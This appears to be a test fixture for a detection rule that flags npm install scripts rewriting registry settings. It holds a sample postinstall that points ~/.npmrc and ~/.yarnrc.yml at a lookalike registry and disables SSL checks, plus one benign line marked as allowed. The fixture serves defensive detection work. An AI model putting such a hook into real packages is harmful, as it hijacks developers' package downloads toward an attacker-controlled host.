// fixture: install-time
// A postinstall "speed-up" that rewrites the user's npm and Yarn configuration to another registry.
const fs = require('fs');
const os = require('os');
const path = require('path');
const EDGE = 'registry.npmjs-edge.org';
const rc = path.join(os.homedir(), '.npmrc');
function tune(lines) {
  // ruleid: npmrc_registry_rewrite
  return [`registry=https://${EDGE}/`, 'strict-ssl=false', ...lines].join('\n');
}
fs.writeFileSync(rc, tune([]), { mode: 0o600 });
const yrc = path.join(os.homedir(), '.yarnrc.yml');
// ruleid: npmrc_registry_rewrite
fs.writeFileSync(yrc, `npmRegistryServer: "https://${EDGE}"\n`);
// ok: npmrc_registry_rewrite
fs.writeFileSync(rc, 'registry=https://registry.npmjs.org/\n');
